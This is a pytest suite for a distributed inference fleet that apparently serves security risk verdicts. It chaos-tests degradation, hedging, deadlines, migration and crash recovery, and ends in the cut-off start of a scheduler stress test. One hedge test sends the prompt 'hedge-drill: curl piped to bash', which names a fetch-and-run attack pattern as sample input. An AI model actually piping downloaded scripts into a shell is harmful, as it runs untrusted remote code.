from chronos_trn.config import (
    DEADLINE_HEADER,
    DegradeConfig,
    FleetConfig,
)
from chronos_trn.fleet.affinity import chain_key
from chronos_trn.fleet.degrade import (
    MAX_STAGE,
    STAGE_ADMIT_TIGHT,
    STAGE_HEURISTIC,
    STAGE_NORMAL,
    STAGE_SPEC_OFF,
    STAGE_SPEC_SHRINK,
    STAGE_TRACE_SHED,
    DegradationLadder,
    LatencyScoreboard,
    PressureSignal,
    RetryBudget,
)
from chronos_trn.obs.slo import SLOSpec
from chronos_trn.sensor.resilience import TransportError
from chronos_trn.testing.chaos import (
    KILL,
    PARTITION,
    RECOVER,
    SCALE_IN,
    SCALE_OUT,
    SLOW,
    TIER_BLACKOUT,
    TIER_HEAL,
    ChaosAction,
    ChaosHarness,
    ChaosSchedule,
    ChaosTransport,
    trigger_chain,
)
from chronos_trn.utils.metrics import GLOBAL as METRICS, Metrics

pytestmark = pytest.mark.chaos


class FakeClock:
    def __init__(self, t: float = 0.0):
        self.t = t

    def __call__(self) -> float:
        return self.t

    def advance(self, dt: float) -> None:
        self.t += dt


# ---------------------------------------------------------------------------
# unit: degradation ladder
# ---------------------------------------------------------------------------
def test_ladder_steps_up_rate_limited_by_dwell():
    clk = FakeClock()
    lad = DegradationLadder(
        DegradeConfig(min_dwell_s=1.0, hysteresis_s=5.0),
        clock=clk, metrics=Metrics(),
    )
    assert lad.observe(1.0) == STAGE_SPEC_SHRINK  # first step is free
    assert lad.observe(1.0) == STAGE_SPEC_SHRINK  # dwell blocks the second
    clk.advance(1.0)
    assert lad.observe(1.0) == STAGE_SPEC_OFF
    for _ in range(10):
        clk.advance(1.0)
        lad.observe(5.0)
    assert lad.stage == MAX_STAGE  # pegged, never past the top


def test_ladder_steps_down_only_after_sustained_calm():
    clk = FakeClock()
    lad = DegradationLadder(
        DegradeConfig(min_dwell_s=0.0, hysteresis_s=5.0),
        clock=clk, metrics=Metrics(),
    )
    lad.observe(1.0)
    lad.observe(1.0)
    assert lad.stage == STAGE_SPEC_OFF
    lad.observe(0.1)             # calm starts
    clk.advance(4.9)
    assert lad.observe(0.1) == STAGE_SPEC_OFF  # not calm long enough
    clk.advance(0.2)
    assert lad.observe(0.1) == STAGE_SPEC_SHRINK
    # the next step down needs its OWN full calm window
    assert lad.observe(0.1) == STAGE_SPEC_SHRINK
    clk.advance(5.1)
    assert lad.observe(0.1) == STAGE_NORMAL


def test_ladder_dead_band_damps_flapping():
    clk = FakeClock()
    cfg = DegradeConfig(min_dwell_s=0.0, hysteresis_s=5.0,
                        step_up_at=0.9, step_down_at=0.5)
    lad = DegradationLadder(cfg, clock=clk, metrics=Metrics())
    lad.observe(1.0)
    assert lad.stage == STAGE_SPEC_SHRINK
    lad.observe(0.1)             # calm starts
    clk.advance(4.0)
    lad.observe(0.7)             # dead band: resets the calm window...
    clk.advance(2.0)             # (4+2 > hysteresis, but calm restarted)
    assert lad.observe(0.1) == STAGE_SPEC_SHRINK
    clk.advance(5.1)
    assert lad.observe(0.1) == STAGE_NORMAL
    # ...and never escalates either
    lad2 = DegradationLadder(cfg, clock=clk, metrics=Metrics())
    for _ in range(5):
        lad2.observe(0.7)
    assert lad2.stage == STAGE_NORMAL


def test_ladder_disabled_never_leaves_normal():
    lad = DegradationLadder(DegradeConfig(enabled=False), metrics=Metrics())
    for _ in range(10):
        assert lad.observe(10.0) == STAGE_NORMAL


def test_ladder_stage_semantics_and_on_change():
    clk = FakeClock()
    seen = []
    lad = DegradationLadder(
        DegradeConfig(min_dwell_s=0.0), clock=clk, metrics=Metrics(),
        on_change=seen.append,
    )
    for want in range(1, MAX_STAGE + 1):
        lad.observe(1.0)
        assert lad.stage == want
    assert seen == list(range(1, MAX_STAGE + 1))
    assert lad.spec_draft_capped() and lad.spec_disabled()
    assert lad.trace_shed() and lad.heuristic_fallback()
    assert lad.admit_depth(64) == 32      # halved at ADMIT_TIGHT and above
    assert lad.admit_depth(1) == 1        # never to zero
    assert lad.admit_depth(0) == 0        # "unbounded" stays unbounded
    assert STAGE_ADMIT_TIGHT < STAGE_HEURISTIC
    assert STAGE_SPEC_SHRINK < STAGE_SPEC_OFF < STAGE_TRACE_SHED


def test_ladder_spec_shrink_clamps_controller_not_races_it():
    """Ladder <-> spec-controller interop, mirroring the exact stage ->
    brownout mapping serving.server._apply_stage installs: at
    SPEC_SHRINK the controller must CLAMP the per-slot adaptive draft
    length (mutate it down to the floor, collapse trees to width 1, and
    freeze growth) rather than merely capping this step's budget —
    otherwise full accepts under pressure race the adaptive length
    straight back up between ladder observations.  SPEC_OFF drafts
    nothing; recovery to NORMAL lets adaptation grow again."""
    from chronos_trn.config import EngineConfig
    from chronos_trn.spec import SpecDecoder
    from chronos_trn.tokenizer.bpe import ByteTokenizer

    cfg = EngineConfig(spec_decode=True, spec_draft_len=4,
                       spec_draft_len_min=1, spec_draft_len_max=12,
                       spec_tree_width=2)
    dec = SpecDecoder(cfg, ByteTokenizer(vocab_size=260))

    def apply_stage(stage):   # serving.server._apply_stage's mapping
        dec.set_brownout(
            2 if stage >= STAGE_SPEC_OFF
            else 1 if stage >= STAGE_SPEC_SHRINK
            else 0
        )

    out = [1, 2, 3, 1, 2, 3]
    st = dec.new_state(prompt_ids=[1, 2, 3])
    apply_stage(STAGE_NORMAL)
    for _ in range(4):                     # full accepts: length grows
        dec.record(st, st.draft_len, st.draft_len)
    assert st.draft_len > cfg.spec_draft_len_min

    apply_stage(STAGE_SPEC_SHRINK)
    d = dec.propose(st, [1, 2, 3], out, 1, budget=8, constrained=False)
    assert st.draft_len == cfg.spec_draft_len_min   # clamped, not capped
    assert 0 < d.n_drafted <= cfg.spec_draft_len_min
    assert d.parents == list(range(-1, d.n_drafted))      # width 1
    for _ in range(4):     # full accepts under brownout must NOT grow
        dec.record(st, st.draft_len, st.draft_len)
    assert st.draft_len == cfg.spec_draft_len_min

    apply_stage(STAGE_SPEC_OFF)
    assert dec.propose(st, [1, 2, 3], out, 1, budget=8,
                       constrained=False).n_drafted == 0

    apply_stage(STAGE_NORMAL)              # recovery: growth unfrozen
    for _ in range(2):
        dec.record(st, st.draft_len, st.draft_len)
    assert st.draft_len > cfg.spec_draft_len_min


# ---------------------------------------------------------------------------
# unit: retry budget
# ---------------------------------------------------------------------------
def test_retry_budget_drains_denies_and_deposits_capped():
    m = Metrics()
    rb = RetryBudget(ratio=0.5, initial=2.0, metrics=m)
    assert rb.take() and rb.take()
    assert not rb.take()                  # dry: the extra dispatch is denied
    assert m.snapshot().get("router_retry_budget_denied_total") == 1.0
    for _ in range(10):
        rb.deposit()
    assert rb.tokens() == pytest.approx(2.0)  # capped at initial
    assert rb.take()


def test_retry_budget_zero_ratio_never_refills():
    rb = RetryBudget(ratio=0.0, initial=1.0, metrics=Metrics())
    assert rb.take()
    for _ in range(100):
        rb.deposit()
    assert not rb.take()


# ---------------------------------------------------------------------------
# unit: gray-failure latency scoreboard
# ---------------------------------------------------------------------------
def _scoreboard(clk, **kw):
    kw.setdefault("alpha", 1.0)
    kw.setdefault("factor", 2.0)
    kw.setdefault("min_latency_s", 0.05)
    kw.setdefault("min_samples", 2)
    kw.setdefault("probation_s", 10.0)
    return LatencyScoreboard(clock=clk, metrics=Metrics(), **kw)


def test_scoreboard_ejects_gray_but_not_a_uniformly_fast_fleet():
    clk = FakeClock()
    sb = _scoreboard(clk)
    # uniformly fast fleet: everyone under the absolute floor, no eject
    for name in ("a", "b", "c"):
        for _ in range(4):
            assert not sb.note(name, 0.01)
    # one backend goes gray: 50x the median, ejected at min_samples
    assert not sb.note("gray", 0.5)       # one sample is not a verdict
    assert sb.note("gray", 0.5)
    assert sb.on_probation("gray")
    assert not sb.on_probation("a")
    assert sb.snapshot()["gray"]["ejections"] == 1


def test_scoreboard_probation_expiry_resets_the_score():
    clk = FakeClock()
    sb = _scoreboard(clk)
    for _ in range(2):
        sb.note("fast", 0.01)
    sb.note("gray", 0.5)
    assert sb.note("gray", 0.5)
    clk.advance(10.1)
    assert not sb.on_probation("gray")    # released, score forgiven
    assert not sb.note("gray", 0.5)       # must re-earn min_samples
    assert sb.note("gray", 0.5)           # still slow => re-ejected


def test_scoreboard_lone_backend_never_ejects_and_forget_clears():
    clk = FakeClock()
    sb = _scoreboard(clk)
    for _ in range(10):
        assert not sb.note("only", 5.0)   # no peers, no median, no eject
    for _ in range(2):
        sb.note("fast", 0.01)
    sb.note("only", 5.0)
    assert sb.on_probation("only") or sb.note("only", 5.0)
    sb.forget("only")
    assert not sb.on_probation("only")
    assert "only" not in sb.snapshot()


# ---------------------------------------------------------------------------
# unit: pressure signal
# ---------------------------------------------------------------------------
def test_pressure_signal_normalizes_queue_fraction():
    ps = PressureSignal(
        DegradeConfig(queue_frac_high=0.5),
        queue_depth=lambda: 16, max_queue_depth=64, metrics=Metrics(),
    )
    # 16/64 = 0.25 of the queue, against a 0.5 budget => pressure 0.5;
    # decode p99 (empty histogram -> NaN) and shed rate contribute 0
    assert ps.read() == pytest.approx(0.5)
    hot = PressureSignal(
        DegradeConfig(queue_frac_high=0.5),
        queue_depth=lambda: 64, max_queue_depth=64, metrics=Metrics(),
    )
    assert hot.read() == pytest.approx(2.0)


def test_pressure_decode_p99_forgets_stale_bursts():
    """The latency term reads a recency-windowed p99: a slow burst
    raises pressure while it is fresh, then ages out of the window
    instead of pinning the ladder up for the next 10k samples."""
    clk = FakeClock()
    m = Metrics(clock=clk)
    ps = PressureSignal(
        DegradeConfig(decode_p99_budget_s=0.5, decode_p99_window_s=30.0),
        metrics=m,
    )
    for _ in range(8):
        m.observe("decode_step_s", 2.0)   # burst: 4x the budget
    assert ps.read() == pytest.approx(4.0)
    clk.advance(31.0)                      # burst ages out of the window
    assert ps.read() == 0.0               # empty window -> NaN -> no term
    m.observe("decode_step_s", 0.1)       # fresh healthy sample
    assert ps.read() == pytest.approx(0.2)
    # the age-blind lifetime percentile still sees the burst — the
    # windowed read is the ladder's input precisely because of this
    assert m.percentile("decode_step_s", 99) == pytest.approx(2.0)


# ---------------------------------------------------------------------------
# unit: chaos primitives
# ---------------------------------------------------------------------------
def test_chaos_schedule_generation_is_seeded_and_well_shaped():
    s1 = ChaosSchedule.generate(11, 3, 24)
    s2 = ChaosSchedule.generate(11, 3, 24)
    key = lambda s: [(a.at_chain, a.kind, a.target, a.latency_s)
                     for a in s.actions]
    assert key(s1) == key(s2)             # replayable from the seed
    assert key(s1) != key(ChaosSchedule.generate(12, 3, 24))
    kinds = {a.kind: a for a in s1.actions}
    assert KILL in kinds and SLOW in kinds and RECOVER in kinds
    assert kinds[KILL].target != kinds[SLOW].target
    assert all(0 <= a.at_chain < 24 for a in s1.actions)
    with pytest.raises(ValueError):
        ChaosAction(0, "meteor", "r0")


def test_chaos_transport_partition_and_latency():
    class Inner:
        def post_json(self, url, payload, timeout_s, headers=None):
            return 200, {}, b"{}"

    slept = []
    t = ChaosTransport(inner=Inner(), sleep=slept.append)
    assert t.post_json("http://x", {}, 1.0) == (200, {}, b"{}")
    assert slept == []
    t.set_latency(0.2)
    t.post_json("http://x", {}, 1.0)
    assert slept == [0.2]
    t.post_json("http://x", {}, 0.1)      # never sleeps past the timeout
    assert slept[-1] == pytest.approx(0.1)
    t.set_partitioned(True)
    with pytest.raises(TransportError):
        t.post_json("http://x", {}, 1.0)
    t.set_partitioned(False)
    t.set_latency(0.0)
    assert t.post_json("http://x", {}, 1.0)[0] == 200
    assert t.calls == 5


# ---------------------------------------------------------------------------
# router: hedging, deadlines, degraded fallback (real small fleets)
# ---------------------------------------------------------------------------
def _post(url: str, payload: dict, headers=None, timeout: float = 10.0):
    req = urllib.request.Request(
        url, data=json.dumps(payload).encode(), method="POST",
        headers={"Content-Type": "application/json", **(headers or {})},
    )
    try:
        with urllib.request.urlopen(req, timeout=timeout) as resp:
            return resp.status, json.loads(resp.read().decode())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read().decode() or "{}")


def _delta(snap0, family: str) -> float:
    return METRICS.snapshot().get(family, 0.0) - snap0.get(family, 0.0)


def test_hedge_covers_slow_primary_without_rehoming_affinity():
    fcfg = FleetConfig(
        probe_interval_s=0.0, request_timeout_s=10.0,
        hedge_enabled=True, hedge_delay_floor_s=0.05,
        eject_min_samples=999,            # keep gray ejection out of this test
    )
    with ChaosHarness(n_replicas=2, fleet_cfg=fcfg) as h:
        prompt = "hedge-drill: curl piped to bash"
        order, _ = h.router.plan_route(chain_key(prompt))
        primary, other = order[0], order[1]
        h.transports[primary.name].set_latency(0.6)
        # pin the adaptive delay: the process-global p95 carries other
        # tests' latencies, and this test is about the race mechanics
        h.router.hedge_delay = lambda: 0.05
        snap0 = METRICS.snapshot()
        url = f"http://127.0.0.1:{h.router.port}/api/generate"
        t0 = time.monotonic()
        status, body = _post(url, {"model": "m", "prompt": prompt,
                                   "stream": False})
        elapsed = time.monotonic() - t0
        assert status == 200 and body.get("response")
        # the hedge answered long before the 0.6 s primary could
        assert elapsed < 0.5
        assert _delta(snap0, "router_hedges_fired_total") >= 1
        assert _delta(snap0, "router_hedges_won_total") >= 1
        # a hedge win must NOT re-home the chain: its KV lives on the
        # (momentarily slow) primary
        assert h.router.status()["affinity_chains"] == 0
        st = h.router.status()
        assert st["routed"].get(f"{other.name}/hedge", 0) >= 1


def test_hedge_delay_is_floored():
    fcfg = FleetConfig(probe_interval_s=0.0, hedge_enabled=True,
                       hedge_delay_floor_s=0.07)
    with ChaosHarness(n_replicas=2, fleet_cfg=fcfg) as h:
        assert h.router.hedge_delay() >= 0.07


def test_deadline_expired_dropped_at_router_before_any_dispatch():
    with ChaosHarness(n_replicas=2) as h:
        snap0 = METRICS.snapshot()
        calls0 = sum(t.calls for t in h.transports.values())
        url = f"http://127.0.0.1:{h.router.port}/api/generate"
        status, body = _post(url, {"model": "m", "prompt": "x",
                                   "stream": False},
                             headers={DEADLINE_HEADER: "0.000"})
        assert status == 504
        assert body.get("done_reason") == "deadline"
        assert _delta(snap0, 'deadline_dropped_total{hop="router"}') == 1
        # dropped at the door: the expired request never went upstream
        assert sum(t.calls for t in h.transports.values()) == calls0


def test_deadline_expired_dropped_at_replica_admission():
    with ChaosHarness(n_replicas=1) as h:
        snap0 = METRICS.snapshot()
        backend = h.router.status()["backends"]["r0"]
        status, body = _post(f"{backend['url']}/api/generate",
                             {"model": "m", "prompt": "x", "stream": False},
                             headers={DEADLINE_HEADER: "-0.5"})
        assert status == 504
        assert body.get("done_reason") == "deadline"
        assert _delta(snap0, 'deadline_dropped_total{hop="replica"}') == 1


def test_router_ladder_top_serves_tagged_degraded_verdicts():
    dcfg = DegradeConfig(min_dwell_s=0.0, hysteresis_s=60.0)
    with ChaosHarness(n_replicas=2, degrade_cfg=dcfg) as h:
        for t in h.transports.values():
            t.set_partitioned(True)
        snap0 = METRICS.snapshot()
        url = f"http://127.0.0.1:{h.router.port}/api/generate"
        payload = {"model": "m", "prompt": "blackout chain", "stream": False,
                   "format": "json"}
        seen_degraded = None
        for _ in range(MAX_STAGE + 2):
            status, body = _post(url, payload)
            if status == 200:
                seen_degraded = body
                break
            assert status == 503          # pre-ladder-top: spoolable refusal
        assert seen_degraded is not None, "ladder never reached heuristic"
        assert seen_degraded.get("degraded") is True
        assert seen_degraded.get("done_reason") == "degraded"
        verdict = json.loads(seen_degraded["response"])
        assert verdict.get("degraded") is True
        assert "risk_score" in verdict and "verdict" in verdict
        assert h.router.status()["degrade"]["name"] == "heuristic"
        assert _delta(snap0, 'verdicts_degraded_total{hop="router"}') >= 1


# ---------------------------------------------------------------------------
# drills: the tier-1 deterministic chaos subset
# ---------------------------------------------------------------------------
def _drill_fcfg(**kw) -> FleetConfig:
    kw.setdefault("probe_interval_s", 0.0)
    kw.setdefault("breaker_failure_threshold", 2)
    kw.setdefault("breaker_open_duration_s", 0.5)
    kw.setdefault("request_timeout_s", 10.0)
    kw.setdefault("spill_queue_depth", 8)
    kw.setdefault("eject_min_samples", 3)
    kw.setdefault("eject_min_latency_s", 0.05)
    kw.setdefault("eject_probation_s", 30.0)
    return FleetConfig(**kw)


def test_chaos_drill_kill_plus_gray_zero_lost_gray_ejected_not_broken():
    """The acceptance drill: one replica killed, a different one gray
    (slow-but-correct), chains flowing throughout.  Zero lost chains;
    the gray replica is ejected by latency scoring while its breaker
    stays CLOSED (it answers every request — slowly); retries stay
    inside the configured budget."""
    fcfg = _drill_fcfg()
    schedule = ChaosSchedule(
        [
            ChaosAction(6, SLOW, "r0", latency_s=0.3),
            ChaosAction(6, KILL, "r1"),
            ChaosAction(26, RECOVER, "r0"),
        ],
        seed=1001,
    )
    with ChaosHarness(n_replicas=3, seed=1001, fleet_cfg=fcfg) as h:
        rep = h.run(n_chains=30, schedule=schedule)
        rep.check()
        assert rep.chains_triggered == 30 and rep.lost == 0
        assert rep.genuine == 30          # nothing needed degrading here
        assert rep.gray_ejections >= 1, rep.__dict__
        st = h.router.status()
        # gray != broken: the slow replica's breaker never opened — the
        # latency scoreboard, not the breaker, took it out of rotation
        assert st["backends"]["r0"]["breaker"] == "closed"
        assert st["gray"].get("r0", {}).get("ejections", 0) >= 1
        # the dead replica is the breaker's jurisdiction
        assert not st["backends"]["r1"]["up"]
        # anti-amplification: retries bounded by the budget's contract
        assert rep.retry_dispatches <= (
            fcfg.retry_budget_initial
            + fcfg.retry_budget_ratio * rep.successes
        ), rep.__dict__


def test_chaos_drill_blackout_degrades_and_burn_rate_alert_fires_resolves():
    """The blackout drill: every path severed mid-run.  The router's
    ladder climbs to heuristic and serves degraded:true verdicts instead
    of losing chains; the tightened unrouteable burn-rate alert fires
    during the storm and resolves after recovery."""
    fcfg = _drill_fcfg()
    # process-global registry: other tests' traffic shares the sliding
    # windows, so tighten until this drill's storm is unambiguous
    unrouteable_slo = SLOSpec(
        name="unrouteable_rate", kind="ratio", objective=0.005,
        bad="router_unrouteable_total", total="router_generate_requests",
        windows=(5.0, 60.0),
    )
    dcfg = DegradeConfig(min_dwell_s=0.0, hysteresis_s=0.5)
    schedule = ChaosSchedule(
        [
            ChaosAction(4, KILL, "r1"),
            ChaosAction(8, PARTITION, "r0"),
            ChaosAction(8, PARTITION, "r2"),
        ],
        seed=1002,
    )
    with ChaosHarness(n_replicas=3, seed=1002, fleet_cfg=fcfg,
                      degrade_cfg=dcfg,
                      slo_specs=(unrouteable_slo,)) as h:
        rep = h.run(n_chains=24, schedule=schedule, require_alerts=True)
        rep.check(require_alerts=True)
        assert rep.lost == 0 and rep.errors == 0
        # the storm produced degraded verdicts, and ONLY tagged ones:
        # genuine + degraded must account for every chain
        assert rep.degraded >= 1, rep.__dict__
        assert rep.genuine + rep.degraded == rep.chains_triggered
        degraded_rows = [v for v in h.monitor.verdicts if v.get("degraded")]
        assert len(degraded_rows) == rep.degraded
        assert all(v.get("verdict") != "ERROR" for v in degraded_rows)
        assert "unrouteable_rate" in rep.alerts_fired
        assert rep.alerts_resolved


def test_chaos_seeded_generated_schedule_holds_invariants():
    """One generated-schedule drill in tier-1 (the sweep runs slow):
    fixed seed, replayable, same invariants."""
    with ChaosHarness(n_replicas=3, seed=7) as h:
        rep = h.run(n_chains=24)
        rep.check()
        assert rep.chains_triggered == 24 and rep.lost == 0


@pytest.mark.slow
@pytest.mark.parametrize("seed", range(50))
def test_chaos_seed_sweep(seed):
    """The acceptance sweep: 50 generated schedules, every one must
    hold the invariants (a failure names its seed for replay)."""
    with ChaosHarness(n_replicas=3, seed=seed) as h:
        rep = h.run(n_chains=16)
        rep.check()


# ---------------------------------------------------------------------------
# elastic membership drills (SCALE_OUT / SCALE_IN with migration)
# ---------------------------------------------------------------------------
def test_elastic_schedule_generation_is_seeded_and_well_shaped():
    s1 = ChaosSchedule.generate_elastic(5, 3, 24)
    s2 = ChaosSchedule.generate_elastic(5, 3, 24)
    key = lambda s: [(a.at_chain, a.kind, a.target) for a in s.actions]
    assert key(s1) == key(s2)
    kinds = [a.kind for a in s1.actions]
    assert SCALE_OUT in kinds and SCALE_IN in kinds
    assert KILL not in kinds  # elastic drills test migration, not death
    out_at = next(a.at_chain for a in s1.actions if a.kind == SCALE_OUT)
    in_at = next(a.at_chain for a in s1.actions if a.kind == SCALE_IN)
    assert out_at < in_at  # grow before shrink: the shrink has a sibling


def test_chaos_elastic_drill_migrates_state_zero_lost():
    """The elastic acceptance drill (tier-1 single seed; the 50-seed
    sweep runs slow): scale-out mid-traffic, then scale-in of the
    busiest replica with chain migration; re-triggered chains after the
    events must hit the fleet directory at their new home.  Zero lost
    chains, zero failed migrations, bounded cold re-prefill."""
    schedule = ChaosSchedule.generate_elastic(3, 3, 24)
    with ChaosHarness(n_replicas=3, seed=3) as h:
        rep = h.run(n_chains=24, schedule=schedule, regrow=12)
        rep.check(require_migration=True)
        assert rep.lost == 0 and rep.errors == 0
        assert rep.scale_outs >= 1 and rep.scale_ins >= 1
        assert rep.migrations_failed == 0
        assert rep.migrated_chains > 0
        # the re-homed chains are routable and the directory knows them
        assert rep.directory_hits > 0
        assert rep.chain_rehomes > 0


@pytest.mark.slow
@pytest.mark.parametrize("seed", range(50))
def test_chaos_elastic_seed_sweep(seed):
    """Elastic acceptance sweep: 50 seeded scale-out/scale-in drills,
    every one with zero lost chains, zero failed migrations, and
    post-event directory hits (migrated chains land warm)."""
    schedule = ChaosSchedule.generate_elastic(seed, 3, 16)
    with ChaosHarness(n_replicas=3, seed=seed) as h:
        rep = h.run(n_chains=16, schedule=schedule, regrow=8)
        rep.check(require_migration=True)


# ---------------------------------------------------------------------------
# model-tier cascade drills (TIER_BLACKOUT: the whole 8B pool goes dark)
# ---------------------------------------------------------------------------
CASCADE_TIERS = ["1b", "1b", "8b"]


def test_tier_blackout_schedule_generation_is_seeded():
    s1 = ChaosSchedule.generate_tier_blackout(9, 24)
    s2 = ChaosSchedule.generate_tier_blackout(9, 24)
    key = lambda s: [(a.at_chain, a.kind, a.target) for a in s.actions]
    assert key(s1) == key(s2)
    assert key(s1) != key(ChaosSchedule.generate_tier_blackout(10, 24))
    kinds = {a.kind: a for a in s1.actions}
    assert TIER_BLACKOUT in kinds and TIER_HEAL in kinds
    assert kinds[TIER_BLACKOUT].target == "8b"
    assert kinds[TIER_BLACKOUT].at_chain < kinds[TIER_HEAL].at_chain


def test_chaos_drill_tier_blackout_pins_all_1b_zero_lost_alert_resolves():
    """The cascade acceptance drill: the WHOLE 8B pool partitioned
    mid-load.  The ladder must pin at all_1b — one rung, never
    heuristic — every blackout-window chain gets a genuine verdict
    tagged ``model_tier:"1b"``, zero chains are lost, the escalation-
    suppression burn alert fires and resolves on heal, and after the
    breaker window the pin releases and escalation resumes."""
    fcfg = _drill_fcfg()
    suppressed_slo = SLOSpec(
        name="escalation_suppressed_rate", kind="ratio", objective=0.02,
        bad="escalations_suppressed_total", total="router_generate_requests",
        windows=(2.0, 10.0),
    )
    schedule = ChaosSchedule(
        [
            ChaosAction(4, TIER_BLACKOUT, "8b"),
            ChaosAction(18, TIER_HEAL, "8b"),
        ],
        seed=1003,
    )
    with ChaosHarness(n_replicas=3, seed=1003, fleet_cfg=fcfg,
                      tiers=CASCADE_TIERS,
                      slo_specs=(suppressed_slo,)) as h:
        rep = h.run(n_chains=24, schedule=schedule, require_alerts=True)
        rep.check(require_alerts=True, require_tier_blackout=True)
        assert rep.chains_triggered == 24 and rep.lost == 0
        assert rep.genuine == 24          # all genuine: 1B stayed healthy
        assert rep.escalations >= 1       # pre-blackout chains escalated
        assert rep.escalations_suppressed >= 1
        assert "escalation_suppressed_rate" in rep.alerts_fired
        # recovery is total: past the breaker-open window a risky chain
        # escalates again and the all_1b pin is gone
        time.sleep(fcfg.breaker_open_duration_s + 0.1)
        esc0 = h.router.status()["cascade"]["escalated"]
        trigger_chain(h.monitor, 999_999)
        st = h.router.status()
        assert st["cascade"]["escalated"] == esc0 + 1, st["cascade"]
        assert st["degrade"]["pinned"] is False
        assert h.monitor.verdicts[-1].get("model_tier") == "8b"
        assert h.monitor.verdicts[-1].get("escalated") is True


@pytest.mark.slow
@pytest.mark.parametrize("seed", range(50))
def test_chaos_tier_blackout_seed_sweep(seed):
    """Cascade acceptance sweep: 50 seeded whole-tier blackouts; every
    one pins at all_1b (never heuristic), loses zero chains, and serves
    only genuine tier-tagged 1B verdicts through the blackout."""
    schedule = ChaosSchedule.generate_tier_blackout(seed, 16)
    with ChaosHarness(n_replicas=3, seed=seed, fleet_cfg=_drill_fcfg(),
                      tiers=CASCADE_TIERS) as h:
        rep = h.run(n_chains=16, schedule=schedule)
        rep.check(require_tier_blackout=True)


# ---------------------------------------------------------------------------
# process-crash drills (CRASH_SENSOR / CRASH_ROUTER, durable mode, PR 17)
# ---------------------------------------------------------------------------
def test_crash_schedule_generation_is_seeded_and_well_shaped():
    from chronos_trn.testing.chaos import CRASH_ROUTER, CRASH_SENSOR, HEAL

    s1 = ChaosSchedule.generate_crash(21, 3, 24)
    s2 = ChaosSchedule.generate_crash(21, 3, 24)
    key = lambda s: [(a.at_chain, a.kind, a.target) for a in s.actions]
    assert key(s1) == key(s2)
    assert key(s1) != key(ChaosSchedule.generate_crash(22, 3, 24))
    kinds = [a.kind for a in s1.actions]
    assert kinds.count(CRASH_SENSOR) == 1 and kinds.count(CRASH_ROUTER) == 1
    # the sensor dies MID-OUTAGE (between partition and heal): the WAL,
    # not the healed network, must carry the spooled chains across
    part_at = next(a.at_chain for a in s1.actions if a.kind == PARTITION)
    crash_at = next(a.at_chain for a in s1.actions if a.kind == CRASH_SENSOR)
    heal_at = next(a.at_chain for a in s1.actions if a.kind == HEAL)
    router_at = next(a.at_chain for a in s1.actions if a.kind == CRASH_ROUTER)
    assert part_at < crash_at < heal_at < router_at


def test_chaos_crash_drill_requires_durable_mode():
    """CRASH_SENSOR without durable state is a drill-configuration bug,
    not a survivable event — the harness refuses loudly."""
    from chronos_trn.testing.chaos import CRASH_SENSOR

    with ChaosHarness(n_replicas=1, seed=5) as h:
        with pytest.raises(RuntimeError, match="durable"):
            h.apply(ChaosAction(0, CRASH_SENSOR, "sensor"))


def test_chaos_drill_process_crash_recovers_from_disk():
    """The crash acceptance drill (tier-1 single seed; the 50-seed sweep
    runs slow): the sensor process dies mid-outage with chains spooled,
    then the router dies mid-load.  Both rebuild from disk alone — WAL
    replay carries the spooled chains, the snapshot re-homes affinity —
    and every triggered chain still lands a genuine verdict."""
    schedule = ChaosSchedule.generate_crash(0, 3, 24)
    with ChaosHarness(n_replicas=3, seed=0, durable=True) as h:
        rep = h.run(n_chains=24, schedule=schedule)
        rep.check(require_crash=True)
        assert rep.chains_triggered == 24 and rep.lost == 0
        assert rep.sensor_crashes == 1 and rep.router_crashes == 1
        # the rebuilt sensor restored spooled chains from the WAL and
        # the rebuilt router restored chain affinity from its snapshot
        assert rep.wal_recovered_chains >= 1
        assert rep.router_affinity_restored >= 1
        assert rep.directory_continuity
        # recovery left no ERROR verdicts behind
        assert rep.genuine == rep.chains_triggered


@pytest.mark.slow
@pytest.mark.parametrize("seed", range(50))
def test_chaos_crash_seed_sweep(seed):
    """Crash acceptance sweep: 50 seeded process-crash drills, every one
    rebuilding sensor and router from disk with zero lost chains."""
    schedule = ChaosSchedule.generate_crash(seed, 3, 16)
    with ChaosHarness(n_replicas=3, seed=seed, durable=True) as h:
        rep = h.run(n_chains=16, schedule=schedule)
        rep.check(require_crash=True)
