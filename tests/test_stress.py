"""Scheduler hardening: concurrent submits, cancellation, page pressure.

SURVEY.md §5 race-detection obligation (VERDICT r3 weak #6): the
continuous-batching scheduler's host state (slots, allocator, per-slot
grammar) is hammered from many threads with random disconnect-style
cancels while the pool is kept under page pressure, then the allocator
invariants and zero-slot-leak are asserted.
"""
import json
import random
import socket
import threading
import time

import pytest

from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig, ServerConfig
from chronos_trn.core import model
from chronos_trn.serving.engine import InferenceEngine
from chronos_trn.serving.scheduler import GenOptions, Scheduler
from chronos_trn.tokenizer.bpe import ByteTokenizer

import jax

MCFG = ModelConfig.tiny()
B = 4
# tiny context so long budgets hit page pressure / truncation constantly
CCFG = CacheConfig.for_slots(B, page_size=8, max_pages_per_seq=6)
ECFG = EngineConfig(
    max_batch_slots=B, prefill_buckets=(16, 32), max_new_tokens=32,
    decode_chunk=4,
)


def _mk_sched():
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    engine = InferenceEngine(params, MCFG, CCFG, ECFG)
    tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
    sched = Scheduler(engine, tok, ECFG)
    return sched, engine


def test_concurrent_submit_cancel_fuzz():
    """8 threads x 6 requests each, ~40% cancelled at random points;
    every request must terminate, no slot/page may leak, and the
    allocator must stay invariant-clean."""
    sched, engine = _mk_sched()
    sched.start()
    results = []
    lock = threading.Lock()

    def client(tid: int):
        rng = random.Random(tid)
        for i in range(6):
            opts = GenOptions(
                max_new_tokens=rng.choice([4, 16, 64, 300]),
                temperature=rng.choice([0.0, 0.9]),
                format_json=rng.random() < 0.3,
                seed=tid * 100 + i,
            )
            req = sched.submit(f"thread {tid} req {i}: " + "x" * rng.randint(0, 40), opts)
            if rng.random() < 0.4:
                time.sleep(rng.random() * 0.05)
                req.cancel()
            try:
                text = req.result(timeout=300)
                outcome = ("ok", text)
            except RuntimeError as e:
                outcome = ("error", str(e))
            with lock:
                results.append(outcome)

    try:
        sched.warmup()
        threads = [threading.Thread(target=client, args=(t,)) for t in range(8)]
        for th in threads:
            th.start()
        for th in threads:
            th.join(timeout=600)
            assert not th.is_alive(), "client thread hung"
    finally:
        sched.stop()

    assert len(results) == 48
    errors = [msg for kind, msg in results if kind == "error"]
    # the only acceptable failure mode is our own cancellation
    assert all("cancelled" in e for e in errors), errors
    ok = [t for kind, t in results if kind == "ok"]
